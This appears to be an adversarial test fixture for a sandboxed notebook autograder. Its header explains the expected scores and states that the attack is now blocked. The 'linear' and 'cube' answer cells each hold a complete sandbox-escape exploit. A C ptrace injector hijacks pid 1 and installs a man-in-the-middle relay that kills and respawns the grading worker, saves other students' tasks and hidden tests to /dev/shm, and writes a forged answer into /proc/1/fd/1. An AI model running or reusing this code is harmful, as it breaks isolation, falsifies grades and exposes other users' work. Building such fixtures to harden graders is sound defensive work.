# notebook: all
# cell: linear square cube
# others: solution
# expect: vjp=3 accumulate=4 secondderiv=3 linear=0 square=2 exp=6 sinh=6 cube=0 softplus=6 sortvalues=4 hvp=4 penalty=3
# flagged: linear cube
# bound: 30
# policy: off
# class: pid1-ptrace
# why: a wrong backward (the sign); the last answer cell compiles a ptrace injector with the sandbox's gcc and
#      makes bubblewrap's init (pid 1, same uid, dumpable, never killed by the worker's cleanup) execve a
#      Python program of its own, then writes a forged answer for its own notebook into /proc/1/fd/1 (see
#      pid1-stdout-forgery). The program now pid 1 kills the worker, starts a new one (grader.sandboxed.worker, its pid check
#      patched) behind two pipes of its own, and relays the pool's tasks and the answers: every later notebook
#      given to that worker passes through the attacker's code, which keeps a copy of each task (the next
#      students' code and the hidden test calls) in /dev/shm. pid1-z9-accomplice, graded later, hands in the
#      square answer it finds there (pid1-z8-accomplice too). The takeover runs in notebook 02 as well
#      (linear's answer cell, after the instructor's answer) so that both workers of the pool are taken.
#      On the old code: square=6 (full marks), pid 1 taken over, the accomplices copied an honest Square.
#      Now: ptrace is refused (seccomp), pid 1 is the worker itself; the frame and ctypes use are flagged, the checks after them score 0.
# %% cell: linear
# <solution>
import json as _json
import os as _os
import subprocess as _subprocess
import sys as _sys

import grader.sandboxed.child as _child
from grader.boundary import wire as _wire

_LAIR = "/dev/shm/.pid1-takeover-7f3"  # never wiped: the worker empties only /tmp


class _Honest(torch.autograd.Function):  # observed instead of Square
    @staticmethod
    def forward(ctx, x):
        ctx.save_for_backward(x)
        return x ** 2

    @staticmethod
    def backward(ctx, grad_out):
        x, = ctx.saved_tensors
        return 2 * x * grad_out


_Honest.__name__ = _Honest.__qualname__ = "Square"


def _task():
    frame = _sys._getframe()
    while frame is not None and frame.f_code.co_name != "_run_child":
        frame = frame.f_back
    return frame.f_locals["task"]


def _forged_answer():
    task = _task()
    namespace = {**get_ipython().user_ns, "Square": _Honest}
    lines = []
    for item in task["plan"]:
        lines.append(_json.dumps({"event": "start", "index": item["index"]}))
        if item["kind"] == "code":
            lines.append(_json.dumps({"event": "done", "index": item["index"], "error": ""}))
            continue
        calls = []
        for call in item["calls"]:
            try:
                calls.append({"observations": _child.observe_call(call, namespace)})
            except Exception as exc:
                calls.append({"error": repr(exc)})
        lines.append(_json.dumps(_wire.encode({"event": "observed", "index": item["index"], "calls": calls,
                                               "restored": []})))
    return {"id": task["id"], "returncode": 0, "stopped": "", "seconds": 1.0, "results": "\n".join(lines) + "\n"}


_INJECTOR = r'''
#include <stdio.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/user.h>
#include <sys/wait.h>
/* make pid 1 execve(argv[1], argv + 1, NULL) */
int main(int argc, char **argv) {
    struct user_regs_struct r;
    unsigned long base, at, ptrs[16], word;
    int status, i, n = argc - 1;
    if (ptrace(PTRACE_SEIZE, 1, 0, 0) || ptrace(PTRACE_INTERRUPT, 1, 0, 0)) { perror("ptrace"); return 1; }
    if (waitpid(1, &status, __WALL) < 0 || ptrace(PTRACE_GETREGS, 1, 0, &r)) { perror("wait/regs"); return 1; }
    word = ptrace(PTRACE_PEEKTEXT, 1, r.rip - 2, 0);
    if ((word & 0xffff) != 0x050f) { fprintf(stderr, "pid 1 is not in a syscall\n"); ptrace(PTRACE_DETACH, 1, 0, 0); return 1; }
    base = (r.rsp - 65536) & ~0xfUL;
    at = base + 8 * (n + 1);
    for (i = 0; i < n; i++) {
        size_t len = strlen(argv[i + 1]) + 1, k;
        ptrs[i] = at;
        for (k = 0; k < len; k += 8) {
            unsigned long chunk = 0;
            memcpy(&chunk, argv[i + 1] + k, len - k < 8 ? len - k : 8);
            ptrace(PTRACE_POKEDATA, 1, at + k, chunk);
        }
        at += (len + 7) & ~7UL;
    }
    ptrs[n] = 0;
    for (i = 0; i <= n; i++) ptrace(PTRACE_POKEDATA, 1, base + 8 * i, ptrs[i]);
    r.rax = 59; r.orig_rax = -1; r.rdi = ptrs[0]; r.rsi = base; r.rdx = 0; r.rip -= 2;
    if (ptrace(PTRACE_SETREGS, 1, 0, &r)) { perror("setregs"); return 1; }
    ptrace(PTRACE_DETACH, 1, 0, 0);
    return 0;
}
'''

_MITM = r'''
import json, os, select, signal, sys
LAIR, PY = sys.argv[1], sys.argv[2]
try:
    os.kill(2, signal.SIGKILL)  # the worker that ran the attacker (its answer is already forged)
except ProcessLookupError:
    pass
env = {"OMP_NUM_THREADS": "1", "MPLBACKEND": "Agg", "GRADER_NO_DRAW": "1", "PATH": "/usr/bin:/bin",
       "LANG": "C.UTF-8", "HOME": "/tmp"}
to_worker, worker_in = os.pipe()
worker_out, from_worker = os.pipe()
pid = os.fork()
if pid == 0:
    os.dup2(to_worker, 0)
    os.dup2(from_worker, 1)
    os.closerange(3, 4096)
    os.execve(PY, [PY, "-I", "-c", "import grader.sandboxed.worker as w; w.in_own_pid_namespace = lambda: True; w.main()"], env)
os.close(to_worker)
os.close(from_worker)
tasks, answers, count = b"", b"", 0
while True:
    while True:
        try:
            done, _ = os.waitpid(-1, os.WNOHANG)
        except ChildProcessError:
            break
        if done == pid:
            sys.exit(1)
        if done == 0:
            break
    ready, _, _ = select.select([0, worker_out], [], [], 0.05)
    if 0 in ready:
        data = os.read(0, 1 << 20)
        if not data:
            sys.exit(0)
        tasks += data
        while b"\n" in tasks:
            line, tasks = tasks.split(b"\n", 1)
            count += 1
            with open(os.path.join(LAIR, "task-%03d.json" % count), "wb") as f:
                f.write(line)
            os.write(worker_in, line + b"\n")
    if worker_out in ready:
        data = os.read(worker_out, 1 << 20)
        if not data:
            sys.exit(1)
        answers += data
        while b"\n" in answers:
            line, answers = answers.split(b"\n", 1)
            if line.startswith(b'{"ready"'):
                continue
            line += b"\n"
            while line:
                line = line[os.write(1, line):]
'''


def _take_over_pid1():
    _os.makedirs(_LAIR, exist_ok=True)
    with open(_os.path.join(_LAIR, "inject.c"), "w") as f:
        f.write(_INJECTOR)
    with open(_os.path.join(_LAIR, "mitm.py"), "w") as f:
        f.write(_MITM)
    built = _subprocess.run(["gcc", "-O1", "-o", _os.path.join(_LAIR, "inject"), _os.path.join(_LAIR, "inject.c")],
                            capture_output=True, text=True)
    if built.returncode != 0:
        return "gcc: " + built.stderr[-300:]
    done = _subprocess.run([_os.path.join(_LAIR, "inject"), _sys.executable, "-I", _os.path.join(_LAIR, "mitm.py"),
                            _LAIR, _sys.executable], capture_output=True, text=True)
    return f"injector: {done.returncode} {done.stderr[-300:]}"


for _attempt in range(3):
    _status = _take_over_pid1()
    if _status.startswith("injector: 0"):
        break
_answer = (_json.dumps(_forged_answer()) + "\n").encode()  # the worker that would answer is gone by now
_fd = _os.open("/proc/1/fd/1", _os.O_WRONLY)
while _answer:
    _answer = _answer[_os.write(_fd, _answer):]
_os.close(_fd)
# %% cell: square
class Square(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        ctx.save_for_backward(x)
        return x ** 2

    @staticmethod
    def backward(ctx, grad_out):
        x, = ctx.saved_tensors
        return -grad_out * 2 * x  # wrong: the sign
# %% cell: cube
# <solution>
import json as _json
import os as _os
import subprocess as _subprocess
import sys as _sys

import grader.sandboxed.child as _child
from grader.boundary import wire as _wire

_LAIR = "/dev/shm/.pid1-takeover-7f3"  # never wiped: the worker empties only /tmp


class _Honest(torch.autograd.Function):  # observed instead of Square
    @staticmethod
    def forward(ctx, x):
        ctx.save_for_backward(x)
        return x ** 2

    @staticmethod
    def backward(ctx, grad_out):
        x, = ctx.saved_tensors
        return 2 * x * grad_out


_Honest.__name__ = _Honest.__qualname__ = "Square"


def _task():
    frame = _sys._getframe()
    while frame is not None and frame.f_code.co_name != "_run_child":
        frame = frame.f_back
    return frame.f_locals["task"]


def _forged_answer():
    task = _task()
    namespace = {**get_ipython().user_ns, "Square": _Honest}
    lines = []
    for item in task["plan"]:
        lines.append(_json.dumps({"event": "start", "index": item["index"]}))
        if item["kind"] == "code":
            lines.append(_json.dumps({"event": "done", "index": item["index"], "error": ""}))
            continue
        calls = []
        for call in item["calls"]:
            try:
                calls.append({"observations": _child.observe_call(call, namespace)})
            except Exception as exc:
                calls.append({"error": repr(exc)})
        lines.append(_json.dumps(_wire.encode({"event": "observed", "index": item["index"], "calls": calls,
                                               "restored": []})))
    return {"id": task["id"], "returncode": 0, "stopped": "", "seconds": 1.0, "results": "\n".join(lines) + "\n"}


_INJECTOR = r'''
#include <stdio.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/user.h>
#include <sys/wait.h>
/* make pid 1 execve(argv[1], argv + 1, NULL) */
int main(int argc, char **argv) {
    struct user_regs_struct r;
    unsigned long base, at, ptrs[16], word;
    int status, i, n = argc - 1;
    if (ptrace(PTRACE_SEIZE, 1, 0, 0) || ptrace(PTRACE_INTERRUPT, 1, 0, 0)) { perror("ptrace"); return 1; }
    if (waitpid(1, &status, __WALL) < 0 || ptrace(PTRACE_GETREGS, 1, 0, &r)) { perror("wait/regs"); return 1; }
    word = ptrace(PTRACE_PEEKTEXT, 1, r.rip - 2, 0);
    if ((word & 0xffff) != 0x050f) { fprintf(stderr, "pid 1 is not in a syscall\n"); ptrace(PTRACE_DETACH, 1, 0, 0); return 1; }
    base = (r.rsp - 65536) & ~0xfUL;
    at = base + 8 * (n + 1);
    for (i = 0; i < n; i++) {
        size_t len = strlen(argv[i + 1]) + 1, k;
        ptrs[i] = at;
        for (k = 0; k < len; k += 8) {
            unsigned long chunk = 0;
            memcpy(&chunk, argv[i + 1] + k, len - k < 8 ? len - k : 8);
            ptrace(PTRACE_POKEDATA, 1, at + k, chunk);
        }
        at += (len + 7) & ~7UL;
    }
    ptrs[n] = 0;
    for (i = 0; i <= n; i++) ptrace(PTRACE_POKEDATA, 1, base + 8 * i, ptrs[i]);
    r.rax = 59; r.orig_rax = -1; r.rdi = ptrs[0]; r.rsi = base; r.rdx = 0; r.rip -= 2;
    if (ptrace(PTRACE_SETREGS, 1, 0, &r)) { perror("setregs"); return 1; }
    ptrace(PTRACE_DETACH, 1, 0, 0);
    return 0;
}
'''

_MITM = r'''
import json, os, select, signal, sys
LAIR, PY = sys.argv[1], sys.argv[2]
try:
    os.kill(2, signal.SIGKILL)  # the worker that ran the attacker (its answer is already forged)
except ProcessLookupError:
    pass
env = {"OMP_NUM_THREADS": "1", "MPLBACKEND": "Agg", "GRADER_NO_DRAW": "1", "PATH": "/usr/bin:/bin",
       "LANG": "C.UTF-8", "HOME": "/tmp"}
to_worker, worker_in = os.pipe()
worker_out, from_worker = os.pipe()
pid = os.fork()
if pid == 0:
    os.dup2(to_worker, 0)
    os.dup2(from_worker, 1)
    os.closerange(3, 4096)
    os.execve(PY, [PY, "-I", "-c", "import grader.sandboxed.worker as w; w.in_own_pid_namespace = lambda: True; w.main()"], env)
os.close(to_worker)
os.close(from_worker)
tasks, answers, count = b"", b"", 0
while True:
    while True:
        try:
            done, _ = os.waitpid(-1, os.WNOHANG)
        except ChildProcessError:
            break
        if done == pid:
            sys.exit(1)
        if done == 0:
            break
    ready, _, _ = select.select([0, worker_out], [], [], 0.05)
    if 0 in ready:
        data = os.read(0, 1 << 20)
        if not data:
            sys.exit(0)
        tasks += data
        while b"\n" in tasks:
            line, tasks = tasks.split(b"\n", 1)
            count += 1
            with open(os.path.join(LAIR, "task-%03d.json" % count), "wb") as f:
                f.write(line)
            os.write(worker_in, line + b"\n")
    if worker_out in ready:
        data = os.read(worker_out, 1 << 20)
        if not data:
            sys.exit(1)
        answers += data
        while b"\n" in answers:
            line, answers = answers.split(b"\n", 1)
            if line.startswith(b'{"ready"'):
                continue
            line += b"\n"
            while line:
                line = line[os.write(1, line):]
'''


def _take_over_pid1():
    _os.makedirs(_LAIR, exist_ok=True)
    with open(_os.path.join(_LAIR, "inject.c"), "w") as f:
        f.write(_INJECTOR)
    with open(_os.path.join(_LAIR, "mitm.py"), "w") as f:
        f.write(_MITM)
    built = _subprocess.run(["gcc", "-O1", "-o", _os.path.join(_LAIR, "inject"), _os.path.join(_LAIR, "inject.c")],
                            capture_output=True, text=True)
    if built.returncode != 0:
        return "gcc: " + built.stderr[-300:]
    done = _subprocess.run([_os.path.join(_LAIR, "inject"), _sys.executable, "-I", _os.path.join(_LAIR, "mitm.py"),
                            _LAIR, _sys.executable], capture_output=True, text=True)
    return f"injector: {done.returncode} {done.stderr[-300:]}"


for _attempt in range(3):
    _status = _take_over_pid1()
    if _status.startswith("injector: 0"):
        break
_answer = (_json.dumps(_forged_answer()) + "\n").encode()  # the worker that would answer is gone by now
_fd = _os.open("/proc/1/fd/1", _os.O_WRONLY)
while _answer:
    _answer = _answer[_os.write(_fd, _answer):]
_os.close(_fd)
